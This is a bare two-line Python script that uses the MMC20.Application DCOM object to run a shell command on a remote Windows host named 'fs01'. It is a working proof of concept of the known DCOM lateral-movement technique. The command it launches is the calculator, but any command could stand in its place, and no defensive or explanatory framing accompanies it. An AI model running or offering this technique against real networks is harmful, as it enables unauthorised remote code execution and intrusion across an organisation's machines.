import win32com.client as w
w.DispatchEx('MMC20.Application','fs01').Document.ActiveView.ExecuteShellCommand('cmd',None,'/c calc','7')
